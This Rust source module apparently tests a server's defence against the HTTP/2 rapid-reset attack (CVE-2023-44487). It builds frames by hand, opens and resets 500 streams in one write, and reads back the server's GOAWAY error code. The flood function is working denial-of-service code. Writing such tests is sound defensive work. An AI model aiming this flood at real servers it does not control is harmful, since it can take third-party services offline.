//! Attacks written by hand, for what a client library would never send.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::edge::{client_config, tls_connect};

/// HTTP/2 frames written by hand: a client library never sends a reset before the
/// stream's HEADERS are out, an attacker does.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    f.extend_from_slice(&[kind, flags]);
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// The error code of the GOAWAY the server sends on `io`, if it sends one.
async fn goaway_code<S: AsyncReadExt + Unpin>(io: &mut S) -> Option<u32> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16384];
    loop {
        // Frames in `buf`: skip all but GOAWAY (type 7).
        while buf.len() >= 9 {
            let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
            if buf.len() < 9 + len {
                break;
            }
            if buf[3] == 7 && len >= 8 {
                return Some(u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]));
            }
            buf.drain(..9 + len);
        }
        match tokio::time::timeout(Duration::from_secs(10), io.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => buf.extend_from_slice(&chunk[..n]),
            _ => return None,
        }
    }
}

/// One HTTP/2 rapid-reset connection (CVE-2023-44487) to `name` at `addr`: 500 streams
/// opened and reset at once, in one write. Returns the error code of the server's GOAWAY
/// (`0xb`: ENHANCE_YOUR_CALM), or `None` if it sent none.
pub async fn rapid_reset(addr: SocketAddr, name: &str, root: &[u8]) -> Option<u32> {
    let mut tls = tls_connect(addr, name, client_config(&[root], &[b"h2"]))
        .await
        .ok()?;
    // GET https://{name}/ in HPACK: indexed :method GET, :scheme https, :path /, then
    // :authority as a literal.
    let mut block = vec![0x82, 0x87, 0x84, 0x01, name.len() as u8];
    block.extend_from_slice(name.as_bytes());
    let mut flood = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    flood.extend(frame(4, 0, 0, &[]));
    for i in 0..500u32 {
        let stream = 2 * i + 1;
        flood.extend(frame(1, 0x5, stream, &block));
        flood.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
    }
    // The server may close before reading it all.
    let _ = tls.write_all(&flood).await;
    goaway_code(&mut tls).await
}
